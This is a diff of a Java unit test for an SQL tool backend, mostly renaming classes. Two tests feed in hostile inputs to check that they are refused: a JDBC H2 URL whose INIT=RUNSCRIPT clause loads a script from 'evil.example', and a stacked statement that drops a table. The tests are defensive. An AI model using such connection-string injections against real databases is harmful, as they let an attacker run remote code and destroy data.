@@ -33,10 +33,10 @@ import org.junit.jupiter.params.provider.ValueSource;
 import org.sallyport.catalog.BackendDefinition;
 import org.sallyport.catalog.BackendStatus;
 import org.sallyport.catalog.ToolDefinition;
+import org.sallyport.connector.BackendConnection;
 import org.sallyport.connector.BackendSettings;
 import org.sallyport.connector.InvalidBackendException;
-import org.sallyport.connector.LiveBackend;
-import org.sallyport.connector.MemoryVault;
+import org.sallyport.connector.VaultFixtures;
 import org.sallyport.tool.CallId;
 import org.sallyport.tool.Json;
 import org.sallyport.tool.ToolErrorCode;
@@ -49,8 +49,8 @@ class SqlBackendTest {
     private final ExecutorService executor = Executors.newCachedThreadPool();
     private final AtomicLong calls = new AtomicLong();
     private final CompletableFuture<List<ToolDefinition>> tools = new CompletableFuture<>();
-    private final CompletableFuture<BackendStatus.State> state = new CompletableFuture<>();
-    private @Nullable LiveBackend backend;
+    private final CompletableFuture<BackendStatus.BackendState> state = new CompletableFuture<>();
+    private @Nullable BackendConnection backend;
     private String url = "";
 
     @BeforeAll
@@ -71,12 +71,12 @@ class SqlBackendTest {
         executor.shutdown();
     }
 
-    private static BackendDefinition definition(String settings, BackendDefinition.Origin origin) {
+    private static BackendDefinition definition(String settings, BackendDefinition.BackendOrigin origin) {
         return new BackendDefinition("db", "sql", new Json(settings), true, origin, "1");
     }
 
-    private SqlStatements kind() {
-        return new SqlStatements(executor, MemoryVault.ACCESS);
+    private SqlBackendType kind() {
+        return new SqlBackendType(executor, VaultFixtures.NO_SECRETS);
     }
 
     private void open(String database) throws SQLException, InterruptedException, ExecutionException, TimeoutException {
@@ -120,31 +120,31 @@ class SqlBackendTest {
                                 database.equals("h2")
                                         ? "select x from system_range(1, 51)"
                                         : "select x from generate_series(1, 51) x"),
-                BackendDefinition.Origin.FILE);
+                BackendDefinition.BackendOrigin.FILE);
         kind().check(BackendSettings.of(definition));
-        LiveBackend opened = kind().open(definition, new LiveBackend.Listener() {
+        BackendConnection opened = kind().open(definition, new BackendConnection.ConnectionListener() {
             @Override
-            public void state(BackendStatus.State now, Optional<String> error) {
+            public void onStateChanged(BackendStatus.BackendState now, Optional<String> error) {
                 // The first look may be too early for a database that is busy; there is another.
-                if (now == BackendStatus.State.READY) {
+                if (now == BackendStatus.BackendState.READY) {
                     state.complete(now);
                 }
             }
 
             @Override
-            public void tools(List<ToolDefinition> declared) {
+            public void onToolsDeclared(List<ToolDefinition> declared) {
                 tools.complete(declared);
             }
         });
         backend = opened;
         opened.start();
-        assertThat(state.get(60, TimeUnit.SECONDS)).isEqualTo(BackendStatus.State.READY);
+        assertThat(state.get(60, TimeUnit.SECONDS)).isEqualTo(BackendStatus.BackendState.READY);
     }
 
     private ToolResult call(String tool, String arguments) {
         try {
             return Objects.requireNonNull(backend)
-                    .call(new LiveBackend.Call(
+                    .call(new BackendConnection.BackendRequest(
                             new CallId("e", calls.incrementAndGet()),
                             tool,
                             new Json(arguments),
@@ -160,7 +160,7 @@ class SqlBackendTest {
 
     private String value(String tool, String arguments) {
         ToolResult result = call(tool, arguments);
-        if (result instanceof ToolResult.Success success) {
+        if (result instanceof ToolResult.ToolSuccess success) {
             return success.value().text();
         }
         throw new AssertionError(result);
@@ -168,7 +168,7 @@ class SqlBackendTest {
 
     private ToolErrorCode code(String tool, String arguments) {
         ToolResult result = call(tool, arguments);
-        if (result instanceof ToolResult.Failure failure) {
+        if (result instanceof ToolResult.ToolFailure failure) {
             return failure.error().code();
         }
         throw new AssertionError(result);
@@ -226,7 +226,7 @@ class SqlBackendTest {
         open(database, 50_000);
         CallId id = new CallId("e", calls.incrementAndGet());
         CompletableFuture<ToolResult> slow = Objects.requireNonNull(backend)
-                .call(new LiveBackend.Call(id, tool, Json.EMPTY_OBJECT, false, "default", Instant.MAX))
+                .call(new BackendConnection.BackendRequest(id, tool, Json.EMPTY_OBJECT, false, "default", Instant.MAX))
                 .toCompletableFuture();
         long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(45);
         while (running(database) == 0) {
@@ -260,7 +260,7 @@ class SqlBackendTest {
     void overRestNobodyConfiguresADatabase() {
         BackendDefinition sent = definition(
                 "{\"url\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/'\",\"statements\":{\"a\":{\"sql\":\"select 1\"}}}",
-                BackendDefinition.Origin.API);
+                BackendDefinition.BackendOrigin.API);
         assertThatThrownBy(() -> kind().check(BackendSettings.of(sent)))
                 .isInstanceOf(InvalidBackendException.class)
                 .hasMessageContaining("installation's file alone");
@@ -276,13 +276,13 @@ class SqlBackendTest {
                 "select $$ :x ; ? $$, $t$ :y $$ $t$, :z § select $$ :x ; ? $$, $t$ :y $$ $t$, ? § z",
             })
     void onlyWhatIsAnArgumentIsBound(String written, String sql, String parameters) {
-        assertThat(NamedStatement.parse(written))
-                .contains(new NamedStatement.Parsed(sql, List.of(parameters.split(",", -1))));
+        assertThat(NamedParameterStatement.parse(written))
+                .contains(new NamedParameterStatement.ParsedStatement(sql, List.of(parameters.split(",", -1))));
     }
 
     @ParameterizedTest
     @ValueSource(strings = {"select 1; drop table pet", "select * from pet where id = ?"})
     void severalStatementsOrNamelessPlacesAreRefused(String written) {
-        assertThat(NamedStatement.parse(written)).isEmpty();
+        assertThat(NamedParameterStatement.parse(written)).isEmpty();
     }
 }
